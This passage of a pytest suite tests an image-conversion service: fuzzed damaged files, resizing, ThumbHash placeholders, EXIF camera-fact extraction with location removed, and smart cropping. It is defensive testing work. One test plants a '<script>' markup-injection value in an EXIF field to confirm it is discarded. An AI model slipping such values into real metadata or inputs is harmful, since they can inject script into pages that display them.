    "gif": lambda: images.animated_gif(3, 24, 16),
    "webp": lambda: _animation("WEBP", 0),
    "tiff": lambda: images.encode(images.gradient(24, 16), "TIFF", compression="tiff_lzw"),
}


def _mutate(data: bytes, rng: random.Random) -> bytes:
    buf = bytearray(data)
    how = rng.randrange(4)
    if how == 0:  # flip a few bytes
        for _ in range(rng.randint(1, 8)):
            buf[rng.randrange(len(buf))] = rng.randrange(256)
    elif how == 1:  # cut it short
        del buf[rng.randrange(1, len(buf)) :]
    elif how == 2:  # insert junk
        at = rng.randrange(len(buf))
        buf[at:at] = rng.randbytes(rng.randint(1, 16))
    else:  # overwrite a run with an extreme value (sizes, counts, offsets)
        at = rng.randrange(len(buf))
        buf[at : at + 4] = rng.choice([b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff"])
    return bytes(buf)


@pytest.mark.parametrize("kind", FUZZ_SEEDS)
def test_damaged_files_only_ever_raise_client_errors(kind: str) -> None:
    rng = random.Random(f"fuzz-{kind}")
    original = FUZZ_SEEDS[kind]()
    specs = (RenderSpec("webp"), RenderSpec("jpeg", 16, 16), RenderSpec("gif"))
    refused: list[tuple[int, int]] = []  # (attempt, status)
    for attempt in range(200):
        data = _mutate(original, rng)
        try:
            convert(data, *specs, keep_copyright=attempt % 2 == 1)
        except ImagingError as exc:
            refused.append((attempt, exc.status))
        except Exception as exc:  # anything else escaping the boundary is the bug under test
            pytest.fail(f"{kind} mutation {attempt} raised {type(exc).__name__}: {exc}")
    assert refused  # the mutations really did damage files
    assert [r for r in refused if r[1] not in {400, 415, 422}] == []


def test_shrink_scales_every_frame_into_the_box_and_keeps_the_aspect() -> None:
    source = decoded(images.animated_gif(frames=3, width=200, height=100), RenderSpec("webp"))
    small = processing.shrink(source, (50, 50), max_side=MAX_SIDE)
    assert (small.width, small.height) == (50, 25)
    assert [f.size for f in small.frames] == [(50, 25)] * 3
    assert small.durations == source.durations


def test_shrink_never_upscales() -> None:
    source = decoded(images.png(40, 30), RenderSpec("png"))
    assert processing.shrink(source, (400, 400), max_side=MAX_SIDE) is source


def test_rendering_from_a_shrunk_image_gives_the_same_sizes() -> None:
    source = decoded(images.jpeg(1632, 1224), RenderSpec("webp", 1024))
    small = processing.shrink(source, (1024, 1024), max_side=MAX_SIDE)
    thumb = RenderSpec("webp", 480, 480)
    direct = processing.render(source, thumb, max_side=MAX_SIDE, background=BACKGROUND)
    via = processing.render(small, thumb, max_side=MAX_SIDE, background=BACKGROUND)
    assert (via.width, via.height) == (direct.width, direct.height) == (480, 360)


@pytest.mark.parametrize(
    ("resample", "method"),
    [("lanczos", Image.Resampling.LANCZOS), ("bilinear", Image.Resampling.BILINEAR)],
)
def test_a_spec_resamples_with_the_filter_it_names(resample: str, method: Image.Resampling) -> None:
    pixels = images.noise(300, 200)
    source = decoded(images.encode(pixels, "PNG"), RenderSpec("png", 150))
    out = processing.render(
        source, RenderSpec("png", 150, resample=resample), max_side=MAX_SIDE, background=BACKGROUND
    )
    expected = pixels.resize((150, 100), method, reducing_gap=3.0)
    with Image.open(io.BytesIO(out.data)) as im:
        assert im.tobytes() == expected.tobytes()


# -- Placeholders (ThumbHash) ---------------------------------------------------------------

#: Hashes the reference implementation (npm thumbhash 0.1.1, rgbaToThumbHash) gives for
#: ``_reference_opaque()`` and ``_reference_alpha()``, and the SHA-256 of the RGBA pixels its
#: thumbHashToRGBA paints from the first: ours must be the same format, byte for byte.
REFERENCE_OPAQUE_HASH = "3wcCDYLWeOmWyZafpHannL+uAT4I"
REFERENCE_ALPHA_HASH = "H/iBBAAIiohm/Hqvigasv8+NfIRcpryQAw=="
REFERENCE_OPAQUE_PIXELS = "f3bbc4407c1b874e79135275da901c84562581682c21a4b9312db0310a588b26"


def _reference_opaque() -> Image.Image:
    return images.noise(40, 30, seed=1).convert("RGBA")


def _reference_alpha() -> Image.Image:
    im = images.noise(30, 40, seed=2).convert("RGBA")
    im.putalpha(images.noise(30, 40, seed=3).convert("L"))
    return im


def _rgba(im: Image.Image) -> np.ndarray[Any, Any]:
    return np.asarray(im.convert("RGBA"), dtype=np.uint8)


@pytest.mark.parametrize(
    ("image", "expected"),
    [(_reference_opaque, REFERENCE_OPAQUE_HASH), (_reference_alpha, REFERENCE_ALPHA_HASH)],
)
def test_thumbhash_bytes_are_the_reference_implementations(
    image: Callable[[], Image.Image], expected: str
) -> None:
    assert base64.b64encode(placeholder.encode(_rgba(image()))).decode() == expected


def test_thumbhash_decodes_to_the_reference_implementations_pixels() -> None:
    width, height, rgba = placeholder.decode(base64.b64decode(REFERENCE_OPAQUE_HASH))
    assert (width, height) == (32, 23)  # landscape, like the 40x30 source
    assert hashlib.sha256(rgba.tobytes()).hexdigest() == REFERENCE_OPAQUE_PIXELS


def test_a_thumbhash_round_trip_keeps_the_colours_where_they_were() -> None:
    im = Image.new("RGB", (90, 45), RED)
    im.paste(BLUE, (45, 0, 90, 45))
    width, height, rgba = placeholder.decode(placeholder.encode(_rgba(im)))
    assert (width, height) == (32, 18)  # 2:1 kept as 7:4: the aspect ratio survives, roughly
    painted = Image.frombytes("RGBA", (width, height), rgba.tobytes())
    assert close_to(painted.getpixel((3, 9)), (*RED, 255), tolerance=60)
    assert close_to(painted.getpixel((28, 9)), (*BLUE, 255), tolerance=60)


def test_a_thumbhash_keeps_transparency() -> None:
    im = images.open_image(images.rgba_png(40, 40))  # left half transparent
    thumbhash = placeholder.encode(_rgba(im))
    assert thumbhash[2] & 0x80  # the has-alpha flag
    _, _, rgba = placeholder.decode(thumbhash)
    assert rgba[16, 2, 3] < 64 < 192 < rgba[16, 29, 3]


def test_a_truncated_thumbhash_is_refused() -> None:
    with pytest.raises(ValueError, match="truncated"):
        placeholder.decode(base64.b64decode(REFERENCE_OPAQUE_HASH)[:12])


def test_the_placeholder_of_a_large_photo_is_computed_from_a_tiny_sample() -> None:
    # A smooth image: point sampling must give the placeholder a full box filter gives.
    big = images.gradient(2000, 1500).convert("RGBA")
    source = decoded(images.encode(big.convert("RGB"), "PNG"), RenderSpec("webp"))
    box = _rgba(big.resize((32, 24), Image.Resampling.BOX))
    sample = placeholder._small_rgba(source.frames[0])
    assert np.abs(sample.astype(int) - box.astype(int)).max() <= 2  # the same pixels, +-1
    sampled = base64.b64decode(processing.thumbhash(source))
    assert sampled == placeholder.encode(sample)
    _, _, a = placeholder.decode(sampled)
    _, _, b = placeholder.decode(placeholder.encode(box))
    # The hash quantises each cosine term to 4 bits, so a term the +-1 tips over a step moves
    # the painted pixels by up to one step: 9 levels on an AMD EPYC, at most 8 on the Xeon
    # before it (same code and wheels). Sampling one corner instead of the grid: max 255,
    # mean 65.
    diff = np.abs(a.astype(int) - b.astype(int))
    assert diff.max() <= 16
    assert diff.mean() <= 3


# -- Camera facts (EXIF) --------------------------------------------------------------------


def test_the_camera_facts_are_read_from_the_original() -> None:
    source = decoded(images.camera_photo(), RenderSpec("webp"))
    assert source.camera.as_dict() == images.CAMERA_FACTS


def test_no_location_is_read_with_the_camera_facts() -> None:
    facts = decoded(images.camera_photo(gps=True), RenderSpec("webp")).camera.as_dict()
    assert facts == decoded(images.camera_photo(gps=False), RenderSpec("webp")).camera.as_dict()
    text = repr(facts)
    for value in ("48.0", "51.0", "29.5", "2.0", "17.0", "40.2", "'N'", "'E'", "gps"):
        assert value not in text.lower()


def test_a_photo_without_exif_has_no_camera_facts() -> None:
    assert decoded(images.png(), RenderSpec("webp")).camera == processing.Camera()


def test_broken_camera_values_are_left_out_not_trusted() -> None:
    exif = Image.Exif()
    exif[0x010F] = "Canon\x00\x01  "
    exif[0x0110] = "Canon EOS R5"
    sub = exif.get_ifd(0x8769)
    sub[0x829A] = TiffImagePlugin.IFDRational(1, 0)  # a zero denominator
    sub[0x829D] = TiffImagePlugin.IFDRational(-28, 10)  # a negative f-number
    sub[0x9003] = "0000:00:00 00:00:00"  # "clock not set"
    sub[0x9011] = "<script>"
    sub[0xA434] = "x" * 500
    data = images.encode(images.gradient(), "JPEG", exif=exif)
    facts = decoded(data, RenderSpec("webp")).camera.as_dict()
    assert facts == {"make": "Canon", "model": "EOS R5", "lens": "x" * 80}


THUMB = RenderSpec("webp", 480, 480, animate=False)


def test_shared_fit_resamples_once_to_the_outputs_size_and_renders_them_unchanged() -> None:
    source = decoded(images.jpeg(1632, 1224), RenderSpec("webp", 1024), THUMB)
    main = [RenderSpec("webp", 1024), RenderSpec("jpeg", 1024)]
    fitted = processing.shared_fit(source, main, derived=[THUMB], max_side=MAX_SIDE)
    assert [f.size for f in fitted.frames] == [(1024, 768)]
    for spec in main:
        direct = processing.render(source, spec, max_side=MAX_SIDE, background=BACKGROUND)
        via = processing.render(fitted, spec, max_side=MAX_SIDE, background=BACKGROUND)
        assert via.data == direct.data
    thumb = processing.render(fitted, THUMB, max_side=MAX_SIDE, background=BACKGROUND)
    assert (thumb.width, thumb.height) == (480, 360)


@pytest.mark.parametrize(
    "main",
    [
        RenderSpec("webp", 200),  # smaller than the thumbnail needs
        RenderSpec("webp", 600, 600, fit="cover"),  # cropped
        RenderSpec("webp", 900, 500, fit="fill"),  # distorted
    ],
)
def test_shared_fit_leaves_the_decode_alone_when_the_outputs_pixels_would_not_do(
    main: RenderSpec,
) -> None:
    source = decoded(images.jpeg(1000, 800), main, THUMB)
    assert processing.shared_fit(source, [main], derived=[THUMB], max_side=MAX_SIDE) is source


def test_shared_fit_leaves_outputs_of_different_sizes_alone() -> None:
    source = decoded(images.jpeg(1000, 800), RenderSpec("webp"))
    specs = [RenderSpec("webp", 600), RenderSpec("png", 700)]
    assert processing.shared_fit(source, specs, max_side=MAX_SIDE) is source


# -- The labelers' copy -----------------------------------------------------------------------


def test_the_label_copy_is_a_whole_factor_reduce_that_still_covers_the_box() -> None:
    source = decoded(images.jpeg(4000, 3000), RenderSpec("webp"))
    copy = processing.LabelImage.of(source, box=(640, 640), background=BACKGROUND)
    jpeg = images.open_image(copy.jpeg())
    assert jpeg.format == "JPEG"
    assert jpeg.size == (640, 480)
    assert len(copy.square_rgb(224)) == 224 * 224 * 3


def test_the_square_is_cut_from_the_one_small_copy_the_detectors_read() -> None:
    copy = processing.LabelImage(Image.new("RGB", (1024, 768), "red"))
    small = copy.small(processing.LabelImage.square_side(224))

    assert small.size == (342, 256)  # one whole-factor box reduce, no resampling filter
    assert copy.small(256) is small  # made once
    left = (342 - 224) // 2
    assert copy.square_rgb(224) == small.crop((left, 16, left + 224, 240)).tobytes()


def test_a_small_copy_of_a_small_picture_is_the_picture() -> None:
    copy = processing.LabelImage(Image.new("RGB", (300, 200), "red"))

    assert copy.small(256).size == (300, 200)
    assert len(copy.square_rgb(224)) == 224 * 224 * 3  # enlarged to its 256 px side


def test_the_label_copy_flattens_transparency_onto_the_background() -> None:
    source = decoded(images.rgba_png(64, 64), RenderSpec("png"))
    copy = processing.LabelImage.of(source, box=(640, 640), background="#00ff00")
    square = Image.frombytes("RGB", (32, 32), copy.square_rgb(32))
    assert close_to(square.getpixel((2, 16)), GREEN)  # the transparent half
    assert close_to(square.getpixel((30, 16)), BLUE)


def test_a_jpeg_label_copy_from_bytes_is_sent_as_it_is() -> None:
    data = images.jpeg(320, 240)
    assert processing.LabelImage.from_bytes(data).jpeg() == data
    png = processing.LabelImage.from_bytes(images.png(320, 240)).jpeg()
    assert images.open_image(png).format == "JPEG"


# -- smart crop: where a cover crop's window goes ---------------------------------------------
COVER = {"png": RenderSpec("png", 300, 300, fit="cover")}
GREY = (60, 60, 60)


def off_centre_subject() -> Image.Image:
    """A flat 1200x600 picture with a bright textured square near the right edge."""
    picture = Image.new("RGB", (1200, 600), GREY)
    picture.paste(images.noise(200, 200), (950, 200))
    return picture


def framed(
    picture: Image.Image, specs: dict[str, RenderSpec] = COVER, **how: Any
) -> tuple[Image.Image, processing.Framing | None]:
    """``picture`` through decode, ``processing.frame`` and render, as the pipeline runs them."""
    d = decoded(images.encode(picture, "PNG"), *specs.values())
    chosen, framing = processing.frame(d, specs, max_side=MAX_SIDE, **how)
    (spec,) = chosen.values()
    return opened(processing.render(d, spec, max_side=MAX_SIDE, background=BACKGROUND)), framing


def detail(im: Image.Image) -> float:
    """How much the picture varies: the grey levels' standard deviation."""
    return float(np.asarray(im.convert("L"), dtype=np.float32).std())


def test_cover_keeps_an_off_centre_subject_by_its_detail() -> None:
    out, framing = framed(off_centre_subject())
    assert framing is not None
    assert framing.method == "saliency"
    assert out.size == (300, 300)
    # The square (100 px once scaled, 25 from the right edge) lies whole inside the crop...
    assert detail(out.crop((180, 105, 270, 195))) > 15
    assert detail(out.crop((0, 0, 170, 300))) < 2
    assert detail(out.crop((280, 0, 300, 300))) < 2
    centred, _ = framed(off_centre_subject(), smart=False)
    assert detail(centred) < 2  # ...where the centre cut shows only the flat background


def test_the_salient_window_centres_on_the_subject() -> None:
    _, framing = framed(off_centre_subject())
    assert framing is not None
    assert framing.focus is not None
    assert framing.focus.centre == pytest.approx((1050 / 1200, 0.5), abs=0.02)


def test_faces_come_before_the_detail() -> None:
    picture = off_centre_subject()
    picture.paste(RED, (100, 250, 160, 330))  # the "face": flat, far from the texture
    face = processing.Focus(100 / 1200, 250 / 600, 60 / 1200, 80 / 600)
    out, framing = framed(picture, faces=[face])
    assert framing == processing.Framing("faces", face)
    assert close_to(rgba_at(out, (65, 145)), (*RED, 255), tolerance=8)  # 130,290 at half size
    assert detail(out.crop((150, 0, 300, 300))) < 2  # and no texture: the window is at the left


def test_several_faces_are_kept_together() -> None:
    one = processing.Focus(0.1, 0.4, 0.05, 0.1)
    two = processing.Focus(0.3, 0.5, 0.05, 0.1)
    _, framing = framed(off_centre_subject(), faces=[one, two])
    assert framing is not None
    assert framing.focus == pytest.approx(processing.Focus(0.1, 0.4, 0.25, 0.2))


def test_a_given_focus_wins_over_faces_and_detail() -> None:
    picture = off_centre_subject()
    picture.paste(BLUE, (0, 0, 120, 600))  # a blue stripe along the left edge
    point = processing.Focus(0.0, 0.5)
    face = processing.Focus(0.5, 0.5, 0.1, 0.1)
    out, framing = framed(picture, focus=point, faces=[face])
    assert framing == processing.Framing("focus", point)
    # The window cannot centre on the very edge: it is pushed back inside, the stripe at its left.
    assert close_to(rgba_at(out, (5, 150)), (*BLUE, 255), tolerance=8)
    assert close_to(rgba_at(out, (290, 150)), (*GREY, 255), tolerance=8)


def test_a_given_focus_is_kept_with_smart_crop_off() -> None:
    point = processing.Focus(0.0, 0.5)
    _, framing = framed(off_centre_subject(), focus=point, smart=False)
    assert framing == processing.Framing("focus", point)


def test_a_flat_picture_is_cut_at_the_centre_as_before() -> None:
    picture = images.bands(1200, 600)  # three flat bands: only two edges, no subject
    data = images.encode(picture, "PNG")
    out, framing = framed(picture)
    assert framing == processing.Framing("centre")
    (plain,) = convert(data, COVER["png"])
    assert out.tobytes() == opened(plain).tobytes()


def test_texture_all_over_keeps_the_centre() -> None:
    _, framing = framed(images.noise(1200, 600))
    assert framing == processing.Framing("centre")


def test_with_smart_crop_off_faces_and_detail_are_ignored() -> None:
    face = processing.Focus(0.05, 0.4, 0.05, 0.1)
    _, framing = framed(off_centre_subject(), faces=[face], smart=False)
    assert framing == processing.Framing("centre")


@pytest.mark.parametrize(
    "spec",
    [
        RenderSpec("png", 300, 300, fit="contain"),
        RenderSpec("png", 1200, 600, fit="cover"),  # the box is the picture's shape: no cut
        RenderSpec("png", width=300, fit="cover"),  # one side: a contain fit
    ],
)
def test_an_output_that_cuts_nothing_is_not_framed(spec: RenderSpec) -> None:
    face = processing.Focus(0.05, 0.4, 0.05, 0.1)
    d = decoded(images.encode(off_centre_subject(), "PNG"), spec)
    chosen, framing = processing.frame(d, {"out": spec}, max_side=MAX_SIDE, faces=[face])
    assert framing is None
    assert chosen == {"out": spec}


def test_only_the_cropped_outputs_get_the_focus() -> None:
    specs = {"png": COVER["png"], "thumb": RenderSpec("webp", 480, 480, fit="contain")}
    d = decoded(images.encode(off_centre_subject(), "PNG"), *specs.values())
    chosen, framing = processing.frame(d, specs, max_side=MAX_SIDE)
    assert framing is not None
    assert chosen["png"].focus == framing.focus
    assert chosen["thumb"] == specs["thumb"]
